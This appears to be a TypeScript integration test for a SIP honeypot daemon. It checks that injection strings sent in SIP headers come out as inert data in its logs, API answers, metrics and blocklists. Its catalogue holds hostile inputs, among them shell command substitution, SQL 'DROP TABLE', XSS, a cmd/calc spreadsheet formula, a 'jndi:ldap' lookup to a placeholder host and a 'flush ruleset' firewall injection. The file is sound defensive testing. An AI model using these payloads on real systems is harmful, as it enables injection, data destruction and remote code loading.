// SPDX-License-Identifier: GPL-2.0-only OR GPL-3.0-only

import assert from 'node:assert/strict'
import { isUtf8 } from 'node:buffer'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { BLOCKLIST_FORMATS } from '../src/api/blocklist.ts'
import { type DaemonProcess, startDaemon, temporaryFolder } from './daemon-process.ts'
import { honeyRows, type JsonLine, jsonLines } from './evidence.ts'
import { testWith } from './peers.ts'
import { sipRequest, type TcpClient, tcpClient } from './sip-client.ts'
import { startSyslogDaemon } from './syslog-daemon.ts'
import { waitFor } from './wait-for.ts'

// What attackers write into their messages, and every place where somebody reads it.

/** Each has the word FORGED where it would begin a line, a cell, a command or an element of its own. */
const CATALOGUE = {
  'C0 controls and DEL': 'a\x01\x07\x08\x0b\x0c\x1fFORGED\x7f',
  'escape sequences': '\x1b[2J\x1b]0;FORGED\x07\x1b[31mFORGED',
  'C1 controls': 'a\u0080\u0085FORGED\u009b2J\u009f',
  'direction marks': '\u202eFORGED\u202c\u2066x\u2069\u200f\u061c',
  'line separators': 'a\u2028FORGED\u2029FORGED',
  'bare line ends': 'a\rFORGED: x',
  'no width': '\u200b\u200dFORGED\ufeff\u2060',
  'folded lines': 'a\r\n FORGED\r\n\tFORGED: x',
  'our own syslog line': 'x Source IP: 198.51.100.1, Method: FORGED, Agent: source ip: 198.51.100.2',
  'a syslog header': '<13>Jan  1 00:00:00 root: FORGED',
  'a JSON line': '"}\\n{"source_ip":"198.51.100.3","sip_method":"FORGED"}',
  'a spreadsheet formula': '=cmd|"/C calc"!FORGED',
  'other formulas': '+FORGED,-FORGED,@FORGED',
  shell: '$(touch FORGED); `touch FORGED` | touch FORGED #',
  SQL: "'; DROP TABLE honey; --FORGED",
  HTML: '<script>alert("FORGED")</script><img src=x onerror=FORGED>',
  'format strings': '%s%n%n%x FORGED {0} $\u007bjndi:ldap://198.51.100.4/FORGED}',
  Prometheus: 'a"} 1\\nsentrypeer_forged_total{FORGED="1',
  'a firewall rule': '198.51.100.5\\nadd FORGED 0.0.0.0/0; flush ruleset',
  'broken UTF-8': Buffer.from([0x61, 0xff, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf5]).toString('latin1'),
} as const

/** What may not stand raw in anything that a person or a program reads line by line. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u
const ATTACKER = '127.0.0.66'

/** The same text in every place of a request that is read. */
function hostileRequest(callId: string, text: string): Buffer {
  const request = sipRequest({ callId, method: 'REGISTER', transport: 'TCP', agent: text, body: `a=${text}\r\n` })
  const lines = request
    .replace('<sip:100@127.0.0.1>', `"${text.replaceAll('"', '')}" <sip:${text.replace(/[<>;]/g, '')}@127.0.0.1>`)
    .replace('Max-Forwards: 70', `Max-Forwards: 70\r\nX-Header: ${text}\r\nContact: ${text}\r\nSubject: ${text}`)
    .replace(/Content-Length: \d+/, '') // the texts are of bytes, not of characters
  const [head = ''] = lines.split('\r\n\r\na=')
  const body = bytesOf(`a=${text}\r\n`)
  return Buffer.concat([bytesOf(`${head.trimEnd()}\r\nContent-Length: ${body.length}\r\n\r\n`), body])
}

/** The texts with characters beyond one byte are sent as UTF-8, that of broken UTF-8 byte by byte. */
function bytesOf(text: string): Buffer {
  return text.includes('\xff') ? Buffer.from(text, 'latin1') : Buffer.from(text, 'utf8')
}

testWith(
  ['rsyslogd', 'sqlite3'],
  'what attackers write is one harmless piece of text in every log, answer and list',
  async (t) => {
    const folder = await temporaryFolder(t)
    const syslog = await startSyslogDaemon(t, folder)
    const daemon = await startDaemon(t, {
      folder,
      api: '127.0.0.1:0',
      flags: ['-rjsdv', '--syslog-socket', syslog.socket, '--public-range', '127.0.0.0/8'],
    })
    const texts = Object.values(CATALOGUE)
    for (const [at, text] of texts.entries()) {
      const callId = `hostile-${at}`
      const client = await tcpClient(t, daemon.port('TCP'), '127.0.0.1', ATTACKER)
      client.send(hostileRequest(callId, text))
      await assertAnswered(client, callId)
    }
    const file = join(folder, 'sentrypeer.db')
    const rows = await honeyRows(file)
    assert.equal(rows.length, texts.length, 'a message is one row whatever is in it')
    assert.deepEqual([...new Set(rows.map((row) => row.source_ip))], [ATTACKER])

    // The lines of the log are those that we wrote: each begins with words of ours, and none was broken in two.
    const stderr = daemon.stderr()
    assertHarmless(stderr, 'stderr')
    for (const line of stderr.split('\n')) assert.doesNotMatch(line, /^\W*FORGED|source ip:/i)
    assert.equal(stderr.match(/^TCP from 127\.0\.0\.66:\d+: /gm)?.length, texts.length)

    const lines = await waitFor('the syslog lines', async () => {
      const found = await syslog.lines()
      return found.length >= texts.length ? found : null
    })
    for (const { priority, tag, message } of lines) {
      assert.deepEqual([priority, tag], ['user.notice', `sentrypeer[${daemon.pid}]:`])
      assert.match(message, /^Source IP: 127\.0\.0\.66, Method: REGISTER, Agent: /)
      assert.equal(message.match(/source ip:/gi)?.length, 1, message)
      assertHarmless(message, 'syslog')
      assert.doesNotMatch(message, /#\d{3}/, 'nothing that rsyslog itself had to escape')
    }
    assert.equal(lines.length, texts.length)

    const log = join(folder, 'sentrypeer_json.log')
    const logged = await waitFor('the JSON log', async () => {
      const found = await jsonLines(log)
      return found.length >= texts.length ? found : null
    })
    assertHarmlessBytes(await readFile(log), 'the JSON log')
    assertEvents(logged)

    await assertApi(daemon, logged)
    daemon.signal('SIGTERM') // with -d it repeats a warning of Node.js, which stop() would not have
    assert.equal((await daemon.ended).code, 0)
  },
)

async function assertApi(daemon: DaemonProcess, logged: readonly JsonLine[]): Promise<void> {
  const base = `http://127.0.0.1:${daemon.port('HTTP')}`
  const get = async (path: string, accept = '*/*') => {
    const answer = await fetch(base + path, { headers: { accept }, signal: AbortSignal.timeout(10_000) })
    const bytes = Buffer.from(await answer.arrayBuffer())
    assertHarmlessBytes(bytes, path)
    assert.equal(answer.headers.get('x-content-type-options'), 'nosniff')
    return { answer, text: bytes.toString('utf8') }
  }
  const { events } = JSON.parse((await get('/events?limit=100')).text)
  assert.equal(events.length, logged.length)
  assertEvents(events)
  for (const path of ['/ip-addresses', '/numbers', `/ip-addresses/${ATTACKER}`, '/health-check', '/openapi.json']) {
    const { answer, text } = await get(path)
    assert.match(answer.headers.get('content-type') ?? '', /^application\/json/)
    assert.equal(typeof JSON.parse(text), 'object')
  }
  for (const path of ['/health-check', '/']) {
    assert.doesNotMatch((await get(path, 'text/html')).text, /FORGED/i, 'no page shows anything of it')
  }
  assert.doesNotMatch((await get('/metrics')).text, /forged/i)
  for (const format of BLOCKLIST_FORMATS) {
    const { text } = await get(`/ip-addresses/ipset?format=${format}`)
    assert.match(text, /127\.0\.0\.66/, format)
    assert.doesNotMatch(text, /FORGED|198\.51\.100|touch|\$\(/i, format)
  }
}

/** The texts are there, whole, as data. */
function assertEvents(events: readonly JsonLine[]): void {
  const agents = new Set(events.map((event) => event['sip_user_agent']))
  for (const [what, text] of Object.entries(CATALOGUE)) {
    if (what === 'broken UTF-8' || /[\r\n]/.test(text)) continue // what those become, the tests of the parser hold
    assert.ok(agents.has(text.trim()), `${what}: ${JSON.stringify([...agents])}`)
  }
}

function assertHarmlessBytes(bytes: Buffer, where: string): void {
  assert.ok(isUtf8(bytes), `${where} is UTF-8`)
  assertHarmless(bytes.toString('utf8'), where)
}

function assertHarmless(text: string, where: string): void {
  const found = UNSAFE.exec(text)
  assert.equal(
    found,
    null,
    `${where}: ${JSON.stringify(text.slice((found?.index ?? 0) - 40, (found?.index ?? 0) + 40))}`,
  )
  assert.ok(text.isWellFormed(), where)
}

async function assertAnswered(client: TcpClient, callId: string): Promise<void> {
  await waitFor(`an answer to ${callId}`, () => /^SIP\/2\.0 [1-6]\d\d /.test(client.received()), {
    state: client.received,
  })
  client.socket.destroy()
}
